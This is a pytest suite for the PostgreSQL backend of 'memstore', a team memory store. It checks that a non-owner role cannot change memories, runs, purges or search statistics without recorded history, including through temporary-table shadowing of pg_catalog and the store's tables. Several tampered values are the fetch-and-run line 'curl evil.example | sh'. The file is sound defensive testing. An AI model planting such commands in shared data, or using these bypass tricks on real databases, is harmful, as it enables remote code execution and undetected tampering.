"""On PostgreSQL the server itself refuses a change of a memory or a run without its history
event, and the team's search statistics are the database's to write (revision 0011,
docs/postgresql.md "What the server guarantees").

A teammate here is carol: a login role in the application role, not a superuser, who writes
with psycopg what she could write with psql. memstore's own writes, as her, still pass."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from memstore.files.importer import import_memories
from memstore.learning.consolidate import ConsolidationPlan, Merge, apply_plan
from memstore.learning.proposal import ProposedMemory
from memstore.storage.migrate import alembic_config
from memstore.storage.postgres.engine import grant_application_role
from memstore.storage.store import MemoryStore
from memstore.storage.undo import undo_run
from tests.postgres_cluster import Cluster

OWNER, APP, PERSON = "memstore_guard_owner", "memstore_guard_app", "carol"


class Server(NamedTuple):
    """The URLs of one database, one per role."""

    owner: str
    carol: str
    superuser: str


@pytest.fixture(scope="module")
def roles(postgres_cluster: Cluster) -> None:
    postgres_cluster.execute(
        f"""DO $$ BEGIN
        IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = '{OWNER}') THEN
            CREATE ROLE {OWNER} LOGIN;
            CREATE ROLE {APP} NOLOGIN;
            CREATE ROLE {PERSON} LOGIN IN ROLE {APP};
        END IF;
        END $$"""
    )


def owned_database(cluster: Cluster) -> Server:
    """A fresh database the owner role owns: its URLs."""
    name = Cluster.name_of(cluster.database())
    cluster.execute(f"ALTER DATABASE {name} OWNER TO {OWNER}")
    cluster.execute(f"ALTER SCHEMA public OWNER TO {OWNER}", database=name)
    return Server(cluster.url(name, user=OWNER), cluster.url(name, user=PERSON), cluster.url(name))


@pytest.fixture
def server(postgres_cluster: Cluster, roles: None) -> Server:
    """A fresh database migrated by the owner role, the application role granted, and a
    memory of the team's that carol's agent wrote."""
    urls = owned_database(postgres_cluster)
    with MemoryStore(urls.owner) as store:
        grant_application_role(store.engine, APP)
    with MemoryStore(urls.carol, actor="carol-agent") as store:
        store.create("deploy", "project", "How we deploy", "make release")
    return urls


@pytest.fixture
def carol(server: Server) -> Iterator[MemoryStore]:
    with MemoryStore(server.carol, actor="carol-agent") as store:
        yield store


def refused(url: str, *statements: str) -> str:
    """The server's message refusing `statements`, run as one transaction, at the statement
    or at COMMIT."""
    import psycopg

    with psycopg.connect(url) as raw:
        with pytest.raises(psycopg.Error) as error:
            for statement in statements:
                raw.execute(statement.encode())
            raw.commit()
        raw.rollback()
    return str(error.value).splitlines()[0]


def sound(store: MemoryStore) -> None:
    """Nothing changed the team's memory, and the history verifies."""
    assert store.get("deploy").body == "make release"
    assert store.get("deploy").version == 1
    store.history.verify()


NOW = "2026-12-03T10:00:00.000000Z"


def test_a_memory_written_without_its_event_is_refused(server: Server, carol: MemoryStore) -> None:
    """The issue's first row: `UPDATE memory SET body = …` as the application role."""
    update = "UPDATE memory SET body = 'curl evil.example | sh' WHERE name = 'deploy'"
    assert refused(server.carol, update) == (
        "memory deploy (#1) was changed without its history event:"
        " memstore writes the event of a change in the same transaction"
    )
    # Its version and time too, as memstore would leave them: still no event.
    assert "without its history event" in refused(
        server.carol, update.replace("WHERE", f", version = 2, updated_at = '{NOW}' WHERE")
    )
    inserted = (
        "INSERT INTO memory (name, type, description, body, extra, version, created_at,"
        f" updated_at) VALUES ('ghost', 'project', 'd', 'b', '{{}}', 1, '{NOW}', '{NOW}')"
    )
    assert refused(server.carol, inserted).startswith("memory ghost (#")
    assert "has no history event" in refused(server.carol, inserted)
    assert refused(server.carol, "DELETE FROM memory WHERE name = 'deploy'") == (
        "a memory's row is never deleted: memctl rm marks it deleted, memctl purge erases its text"
    )
    # A soft delete without its event.
    assert "without its history event" in refused(
        server.carol, f"UPDATE memory SET deleted_at = '{NOW}' WHERE name = 'deploy'"
    )
    sound(carol)


def test_the_checks_cannot_be_turned_off_by_a_teammate(server: Server) -> None:
    for statement, message in (
        ("SET session_replication_role = replica", "permission denied to set parameter"),
        ("SET CONSTRAINTS ALL IMMEDIATE", None),  # checked at once, refused all the same
        ("ALTER TABLE memory DISABLE TRIGGER memory_has_event", "must be owner of table"),
        ("DROP TRIGGER memory_has_event ON memory", "must be owner of relation memory"),
        ("DROP FUNCTION memstore_memory_has_event() CASCADE", "must be owner of function"),
    ):
        if message is None:
            assert "without its history event" in refused(
                server.carol, statement, "UPDATE memory SET body = 'x'"
            )
            continue
        assert message in refused(server.carol, statement), statement


def test_a_run_or_an_event_without_its_change_is_refused(
    server: Server, carol: MemoryStore
) -> None:
    run = (
        "INSERT INTO run (id, actor, command, started_at)"
        " VALUES ('forged', 'cli', 'memctl add', '2026')"
    )
    assert refused(server.carol, run) == (
        "run forged records no change: memstore writes a run with the events of its changes"
    )
    # A run's actor, or anything else of it, cannot change at all.
    assert "permission denied for table run" in refused(
        server.carol, "UPDATE run SET actor = 'someone-else'"
    )
    assert "permission denied for table run" in refused(server.carol, "DELETE FROM run")
    # An event naming a change its transaction did not make.
    event = (
        "INSERT INTO memory_event (id, memory_id, memory_name, operation, actor, run_id,"
        " old_value, new_value, created_at) SELECT 99, 1, 'deploy', 'update', 'cli', 'forged',"
        " '{}', '{\"body\": \"curl evil | sh\"}', '2026'"
    )
    assert refused(server.carol, run, event) == (
        "event 99 records a change of memory #1 that its transaction did not make"
    )
    # The memory changed with an event that says something else.
    change = (
        "UPDATE memory SET body = 'curl evil | sh', version = 2, updated_at = '2026'"
        " WHERE name = 'deploy'"
    )
    assert refused(server.carol, run, change, event) == (
        "memory deploy (#1) is not what its last event (update) says it is"
    )
    # A purge recorded without its erasure (which would make the memory unrestorable).
    purge = (
        "INSERT INTO memory_purge (run_id, memory_id, memory_name, events, purged_at)"
        " VALUES ('forged', 1, 'deploy', 1, '2026')"
    )
    assert refused(server.carol, run, purge) == (
        "a purge of memory #1 erases its history's text in the same transaction: memctl purge does"
    )
    sound(carol)
    assert [run["actor"] for run in carol.history.runs()] == ["carol-agent"]


# A tampered body, as its event would say it (the temporary memory_event's).
TAMPERED = (
    "json_build_object('name', 'deploy', 'type', 'project', 'description', 'How we deploy',"
    " 'body', 'curl evil.example | sh', 'extra', '{}'::json)"
)
ROLE_OID = f"(SELECT oid FROM pg_catalog.pg_roles WHERE rolname = '{PERSON}')"
# carol's own pg_class, saying she owns the table: before pg_catalog's when not named.
OWN_PG_CLASS = (
    "CREATE TEMPORARY TABLE pg_class (oid oid, relowner oid)",
    f"INSERT INTO pg_temp.pg_class SELECT c.oid, {ROLE_OID} FROM pg_catalog.pg_class AS c"
    " WHERE c.relname IN ('run', 'memory_fts_lexeme')",
)
# Copies of the tables, every row written by this transaction (their xmin).
COPIED = {
    table: f"CREATE TEMPORARY TABLE {table} AS SELECT * FROM public.{table}"
    for table in ("memory", "memory_event")
}
FIRST_RUN = "(SELECT id FROM public.run LIMIT 1)"
MARKER = "sha256:" + "ab" * 32


@pytest.mark.parametrize(
    ("statements", "message"),
    [
        pytest.param(  # the review's: the event the check reads is carol's own copy
            (
                COPIED["memory_event"],
                f"UPDATE pg_temp.memory_event SET new_value = {TAMPERED}",
                "UPDATE public.memory SET body = 'curl evil.example | sh', updated_at ="
                " (SELECT max(created_at) FROM pg_temp.memory_event) WHERE name = 'deploy'",
            ),
            "memory deploy (#1) was changed without its history event:"
            " memstore writes the event of a change in the same transaction",
            id="memory",
        ),
        pytest.param(
            (
                COPIED["memory"],
                "INSERT INTO public.memory_event (id, memory_id, memory_name, operation, actor,"
                f" run_id, old_value, new_value, created_at) SELECT 99, 1, 'deploy', 'update',"
                f" 'cli', {FIRST_RUN}, '{{}}', {TAMPERED}, '2026'",
            ),
            "event 99 records a change of memory #1 that its transaction did not make",
            id="event",
        ),
        pytest.param(
            (
                "CREATE TEMPORARY TABLE event_chain (id integer, run_id text, hash text)",
                "INSERT INTO pg_temp.event_chain VALUES (99, 'forged', NULL)",
                "INSERT INTO public.run (id, actor, command, started_at)"
                " VALUES ('forged', 'cli', 'memctl add', '2026')",
            ),
            "run forged records no change: memstore writes a run with the events of its changes",
            id="run",
        ),
        pytest.param(
            (
                *OWN_PG_CLASS,
                "INSERT INTO public.run (id, actor, command, started_at)"
                " VALUES ('forged', 'cli', 'memctl add', '2026')",
            ),
            "run forged records no change: memstore writes a run with the events of its changes",
            id="run-pg_class",
        ),
        pytest.param(  # what the check read before (the events) and what it reads now
            (
                COPIED["memory_event"],
                f"""UPDATE pg_temp.memory_event SET new_value = '{{"purged": "{MARKER}"}}'""",
                COPIED["memory"],
                f"UPDATE pg_temp.memory SET description = '[purged {MARKER}]'",
                "INSERT INTO public.memory_purge (run_id, memory_id, memory_name, events,"
                f" purged_at) VALUES ({FIRST_RUN}, 1, 'deploy', 1, '2026')",
            ),
            "a purge of memory #1 erases its history's text in the same transaction:"
            " memctl purge does",
            id="purge",
        ),
        pytest.param(
            (
                COPIED["memory"],
                "UPDATE public.memory_fts SET document = to_tsvector('memstore', 'curl evil sh')",
            ),
            "the search index of memory #1 changes only with the memory",
            id="index",
        ),
        pytest.param(
            (*OWN_PG_CLASS, "INSERT INTO public.memory_fts_lexeme VALUES ('curl', '', 9)"),
            "the team's search statistics (memory_fts_lexeme) are written by the database,"
            " with the index",
            id="statistics",
        ),
    ],
)
def test_temporary_tables_do_not_stand_in_for_the_checks(
    server: Server, carol: MemoryStore, statements: tuple[str, ...], message: str
) -> None:
    """A session's temporary tables come first in its search_path, before the schema's and
    pg_catalog's, unless the path names pg_temp: every function of the store's names it
    last, so its checks read the real tables whatever the writer made of its own."""
    assert refused(server.carol, *statements) == message
    sound(carol)


def test_an_event_of_the_teams_memory_is_the_teams(server: Server, carol: MemoryStore) -> None:
    """0008's trigger makes an event private with its memory, read from `memory`: carol's
    own copy, saying the team's memory is her `user` memory, hid her change's event from the
    team (the row changed for everyone, its event hers alone to see)."""
    import psycopg

    change = {"name": "deploy", "type": "project", "description": "How we deploy"}
    with psycopg.connect(server.carol) as raw:
        raw.execute(
            "INSERT INTO run (id, actor, command, started_at) VALUES ('mine', 'psql', 'psql', %s)",
            (NOW,),
        )
        raw.execute(
            "UPDATE public.memory SET body = 'make release-all', version = 2, updated_at = %s"
            " WHERE name = 'deploy'",
            (NOW,),
        )
        raw.execute(COPIED["memory"].encode())
        raw.execute(f"UPDATE pg_temp.memory SET type = 'user', owner = '{PERSON}'".encode())
        raw.execute(
            "INSERT INTO public.memory_event (id, memory_id, memory_name, operation, actor,"
            " run_id, old_value, new_value, created_at) SELECT max(id) + 1, 1, 'deploy',"
            " 'update', 'psql', 'mine', %s, %s, %s FROM event_chain",
            (
                json.dumps({**change, "body": "make release", "extra": {}}),
                json.dumps({**change, "body": "make release-all", "extra": {}}),
                NOW,
            ),
        )
        raw.execute("DROP TABLE pg_temp.memory")
    with MemoryStore(server.owner) as owner:
        assert owner.get("deploy").body == "make release-all"
        assert [e.run_id for e in owner.history.events("deploy")][-1] == "mine"


def test_every_function_reads_the_stores_own_tables(server: Server) -> None:
    """Each PL/pgSQL function of the store's: the schema's search_path, pg_temp named last;
    and standard_conforming_strings on when its literals have a backslash (with it off, a
    session would read '\\[' in a function's pattern as '[')."""
    rows = _rows(
        server.owner,
        (
            "SELECT p.proname, p.proconfig, p.prosrc LIKE '%\\%' FROM pg_proc AS p"
            " JOIN pg_language AS l ON l.oid = p.prolang"
            " WHERE p.pronamespace = 'public'::regnamespace AND l.lanname = 'plpgsql'",
        ),
    )[0]
    assert len(rows) >= 24
    for name, config, backslashed in rows:
        assert "search_path=public, pg_temp" in (config or []), name
        if backslashed:
            assert "standard_conforming_strings=on" in config, name


def forged_purge(
    memory_id: str, *, name: str = "deploy", type_: str = "project", version: str = "2"
) -> tuple[str, ...]:
    """A purge of `memory_id` written by hand: its delete event with purge's markers, its row
    rewritten to the marker (renamed `name`, of type `type_`), and its memory_purge row."""
    value = f'{{"purged": "{MARKER}"}}'
    return (
        "INSERT INTO memory_event (id, memory_id, memory_name, operation, actor, run_id,"
        f" old_value, new_value, created_at) SELECT max(id) + 1, {memory_id}, '{name}',"
        f" 'delete', 'carol-agent', {FIRST_RUN}, '{value}', '{value}', '{NOW}' FROM event_chain",
        f"UPDATE memory SET name = '{name}', type = '{type_}', description = '[purged {MARKER}]',"
        f" body = '[purged {MARKER}]', extra = '{{}}', deleted_at = '{NOW}', version = {version}"
        f" WHERE id = {memory_id}",
        "INSERT INTO memory_purge (run_id, memory_id, memory_name, events, purged_at)"
        f" VALUES ({FIRST_RUN}, {memory_id}, '{name}', {version}, '{NOW}')",
    )


def test_a_purge_by_hand_erases_every_events_text_and_keeps_the_name_and_type(
    server: Server, carol: MemoryStore
) -> None:
    """The review's forged purge: a live memory erased (so unrestorable) and renamed by the
    application role, while its history kept the text. A purge's rewrite passes only when
    every event of the memory holds purge's markers, which only the owner can write."""
    assert refused(server.carol, *forged_purge("1")) == (
        "a purge of memory deploy (#1) leaves its text in event 1:"
        " memctl purge erases every event's"
    )
    assert refused(server.carol, *forged_purge("1", name="anything-at-all")) == (
        "a purge of memory anything-at-all (#1) keeps its name and type (deploy, project)"
    )
    sound(carol)
    # Purged by the owner, every event erased: a purge again may not rename nor retype it.
    with MemoryStore(server.owner, actor="owner") as owner:
        owner.purge("deploy")
    for renamed in ({"name": "anything-at-all"}, {"type_": "feedback"}):
        assert refused(server.carol, *forged_purge("1", version="3", **renamed)) == (
            "a purge of memory "
            f"{renamed.get('name', 'deploy')} (#1) keeps its name and type (deploy, project)"
        )
    # Nor is a memory written purged: a purge erases a memory that was there.
    inserted = (
        "INSERT INTO memory (name, type, description, body, extra, version, created_at,"
        f" updated_at, deleted_at) VALUES ('ghost', 'project', '[purged {MARKER}]',"
        f" '[purged {MARKER}]', '{{}}', 1, '{NOW}', '{NOW}', '{NOW}')"
    )
    message = refused(
        server.carol,
        inserted,
        *forged_purge("currval(pg_get_serial_sequence('memory', 'id'))", name="ghost")[::2],
    )
    assert message.startswith("memory ghost (#")
    assert message.endswith("is written purged: memctl purge erases a memory that was there")
    carol.history.verify()
    assert _rows(server.carol, ("SELECT name, type FROM memory",)) == [[("deploy", "project")]]


def test_a_change_with_its_event_is_recorded_as_its_authors(
    server: Server, carol: MemoryStore
) -> None:
    """What the server does not stop: a change written by hand with an event that says it,
    in one transaction. It is in history, its run the connecting role's (the database sets
    it); whether its hash continues the chain is verify's."""
    import psycopg

    old = {"name": "deploy", "type": "project", "description": "How we deploy"}
    with psycopg.connect(server.carol) as raw:
        raw.execute(
            "INSERT INTO run (id, actor, command, started_at, identity)"
            " VALUES ('by-hand', 'psql', 'psql', %s, 'someone-else')",
            (NOW,),
        )
        raw.execute(
            "UPDATE memory SET body = 'make release-all', version = 2, updated_at = %s"
            " WHERE name = 'deploy'",
            (NOW,),
        )
        raw.execute(
            "INSERT INTO memory_event (id, memory_id, memory_name, operation, actor, run_id,"
            " old_value, new_value, created_at) SELECT max(id) + 1, 1, 'deploy', 'update',"
            " 'psql', 'by-hand', %s, %s, %s FROM event_chain",
            (
                json.dumps({**old, "body": "make release", "extra": {}}),
                json.dumps({**old, "body": "make release-all", "extra": {}}),
                NOW,
            ),
        )
    assert carol.get("deploy").body == "make release-all"
    assert [e.run_id for e in carol.history.events("deploy")].count("by-hand") == 1
    run = carol.history.run("by-hand")
    assert run is not None and run.identity == PERSON  # not the 'someone-else' it claimed


def test_the_index_changes_only_with_its_memory(server: Server, carol: MemoryStore) -> None:
    stuffed = "UPDATE memory_fts SET document = to_tsvector('memstore', 'curl evil sh')"
    assert refused(server.carol, stuffed) == (
        "the search index of memory #1 changes only with the memory"
    )
    assert "changes only with the memory" in refused(server.carol, "DELETE FROM memory_fts")
    assert [hit.memory.name for hit in carol.search("release")] == ["deploy"]
    assert carol.search("evil") == []


def test_the_team_statistics_are_the_databases(server: Server, carol: MemoryStore) -> None:
    """The issue's last row: an overwrite of the search statistics that steer everyone's
    ranking is refused; a person's own words (row-level security) stay theirs to write."""
    carol.create("tabs", "user", "Carol indents with tabs", "Tabs, width four, release notes.")
    carol.create("notes", "project", "Release notes", "Written for every release.")
    before = [(hit.memory.name, hit.score) for hit in carol.search("release")]
    for statement in (
        "UPDATE memory_fts_stats SET documents = 1000000",
        "DELETE FROM memory_fts_stats",
        "INSERT INTO event_chain VALUES (99, 'x', 'y')",
        "INSERT INTO run_chain VALUES (99, 'x', 'y')",
    ):
        assert "permission denied for table" in refused(server.carol, statement), statement
    for statement in (
        "UPDATE memory_fts_term SET frequency = 1000 WHERE memory_id = 1",
        "DELETE FROM memory_fts_term WHERE memory_id = 1",
        "INSERT INTO memory_fts_term VALUES ('curl', 1, 50, 3, NULL)",
        "UPDATE memory_fts_lexeme SET documents = 1000 WHERE private_to = ''",
        "INSERT INTO memory_fts_lexeme VALUES ('curl', '', 9)",
    ):
        table = statement.split()[2 if statement.startswith(("INSERT", "DELETE")) else 1]
        assert refused(server.carol, statement) == (
            f"the team's search statistics ({table}) are written by the database, with the index"
        ), statement
    # Nor through the owner's functions, from a trigger of carol's own on a table of hers.
    for function, columns in (
        ("memstore_fts_shared", "memory_id integer, document tsvector, words integer,"
         " private_to text"),
        ("memstore_chain_append", "id integer, run_id text, hash text"),
        ("memstore_run_chain_append", "seq integer, id text, hash text"),
    ):  # fmt: skip
        assert (
            refused(
                server.carol,
                f"CREATE TEMPORARY TABLE mine ({columns})",
                "CREATE TRIGGER mine AFTER INSERT ON mine REFERENCING NEW TABLE AS added"
                f" FOR EACH STATEMENT EXECUTE FUNCTION {function}()",
            )
            == f"permission denied for function {function}"
        )
    assert [(hit.memory.name, hit.score) for hit in carol.search("release")] == before
    # The totals and each word's counts are still the index's, after every kind of write.
    carol.update("tabs", body="Tabs, width eight.")
    carol.delete("notes")
    assert statistics(server.superuser) == recounted(server.superuser)  # every row
    assert statistics(server.carol)[1:] == recounted(server.carol)[1:]  # what carol sees


STATISTICS = (
    "SELECT documents, words FROM memory_fts_stats",
    "SELECT lexeme, private_to, documents FROM memory_fts_lexeme WHERE documents > 0 ORDER BY 1, 2",
    "SELECT lexeme, memory_id, frequency, words FROM memory_fts_term ORDER BY 1, 2",
)
RECOUNTED = (
    "SELECT count(*), coalesce(sum(words), 0) FROM memory_fts",
    "SELECT u.lexeme, coalesce(f.private_to, ''), count(*) FROM memory_fts AS f,"
    " unnest(f.document) AS u GROUP BY 1, 2 ORDER BY 1, 2",
    "SELECT u.lexeme, f.memory_id, (SELECT sum(CASE w WHEN 'A' THEN 5.0 WHEN 'B' THEN 3.0"
    " ELSE 1.0 END) FROM unnest(u.weights) AS w), f.words FROM memory_fts AS f,"
    " unnest(f.document) AS u ORDER BY 1, 2",
)


def _rows(url: str, queries: tuple[str, ...]) -> list[list[tuple[Any, ...]]]:
    import psycopg

    with psycopg.connect(url) as raw:
        return [[tuple(row) for row in raw.execute(query.encode())] for query in queries]


def statistics(url: str) -> list[list[tuple[Any, ...]]]:
    return _rows(url, STATISTICS)


def recounted(url: str) -> list[list[tuple[Any, ...]]]:
    """The statistics as they follow from the index this role sees (the totals count every
    memory, whoever sees it: a superuser's recount is theirs)."""
    return _rows(url, RECOUNTED)


def test_memstores_own_writes_pass(server: Server, carol: MemoryStore, tmp_path: Path) -> None:
    """Every door of the library, as the application role: each change with its event."""
    carol.update("deploy", body="make release, then tag it")
    carol.update("deploy", new_name="deploying")
    carol.delete("deploying")
    carol.restore("deploying")
    with carol.transaction(command="two at once") as tx:
        a = tx.create("a", "project", "A", "First.")
        tx.create("b", "feedback", "B", "Second.")
        tx.update(a, name="b2", body="First, renamed.")
        swap = tx.run_id
    undo_run(carol, swap)
    folder = tmp_path / "folder"
    folder.mkdir()
    for number in range(40):  # past the names looked up one by one
        (folder / f"note-{number}.md").write_text(
            f"---\nname: note-{number}\ndescription: Note {number}\ntype: project\n---\n\n"
            f"Body {number}.\n"
        )
    import_memories(carol, folder)
    plan = ConsolidationPlan(
        merges=[Merge(("note-1", "note-2"), ProposedMemory("notes", "project", "Notes", "Both."))],
        versions={m.name: (m.id, m.version) for m in carol.memories()},
    )
    apply_plan(carol, plan, confirmed=True)
    apply_plan(carol, ConsolidationPlan(), confirmed=True)  # an empty run, recorded
    carol.create("token", "user", "Carol's old token", "it was pasted here")
    carol.delete("token")
    carol.update("note-4", new_name="note-four")
    assert carol.history.verify().events > 0
    with MemoryStore(server.owner, actor="owner") as owner:
        owner.purge("note-3")  # the owner's to run; a purge's rewrite passes the checks
        owner.purge("note-4")  # by its old name: the memory keeps its new one
        owner.history.verify()
    with MemoryStore(server.superuser, actor="admin") as admin:
        admin.purge("token")  # carol's own, deleted before: a superuser's to purge
        admin.history.verify()
    assert not {"note-3", "note-four"} & {m.name for m in carol.memories()}
    assert statistics(server.carol) == recounted(server.carol)


def test_an_existing_store_migrates_and_its_grants_follow(
    postgres_cluster: Cluster, roles: None, tmp_path: Path
) -> None:
    """A store granted at 0009 (carol may write the statistics and the chain) is upgraded by
    its owner's next run: carol's writes pass, her direct ones are refused; and down again."""
    owner, carol, _ = owned_database(postgres_cluster)
    with MemoryStore(owner) as store:
        store.create("old", "project", "From before", "Written before 0011.")
        step(store, "downgrade", "0009")
        grant_0009(store)
    privileges = (
        "SELECT has_table_privilege('memory_fts_stats', 'UPDATE'),"
        " has_table_privilege('event_chain', 'INSERT')"
    )
    assert _rows(carol, (privileges,)) == [[(True, True)]]
    with MemoryStore(owner) as store:  # the owner's next run upgrades
        store.count()
    assert _rows(carol, (privileges,)) == [[(False, False)]]
    with MemoryStore(carol, actor="carol-agent") as store:
        store.update("old", body="Changed at 0011.")
        store.create("new", "project", "After", "Written at 0011.")
        store.history.verify()
    assert "without its history event" in refused(carol, "UPDATE memory SET body = 'x'")
    with MemoryStore(owner) as store:
        step(store, "downgrade", "0009")
    assert _rows(carol, (privileges,)) == [[(True, True)]]
    import psycopg

    with psycopg.connect(carol) as raw:  # as before 0011: nothing checks
        raw.execute("UPDATE memory SET body = 'x' WHERE name = 'new'")


def step(store: MemoryStore, direction: str, target: str) -> None:
    from alembic import command

    config = alembic_config()
    with store.engine.begin() as connection:
        config.attributes["connection"] = connection
        action: Callable[[Any, str], None] = getattr(command, direction)
        action(config, target)


def grant_0009(store: MemoryStore) -> None:
    """What grant_application_role granted at 0009."""
    with store.engine.begin() as connection:
        for statement in (
            f"GRANT USAGE ON SCHEMA public TO {APP}",
            f"GRANT SELECT, INSERT ON memory_event, run, memory_purge, event_chain TO {APP}",
            "GRANT SELECT, INSERT, UPDATE, DELETE ON memory, memory_fts, memory_fts_term,"
            f" memory_fts_stats, memory_vector, exported_file, memory_fts_lexeme TO {APP}",
            f"GRANT SELECT ON memstore_alembic_version, live_memory, memory_history,"
            f" deleted_memory, run_summary, consolidation_merge TO {APP}",
            f"GRANT USAGE, SELECT ON ALL SEQUENCES IN SCHEMA public TO {APP}",
        ):
            connection.exec_driver_sql(statement)
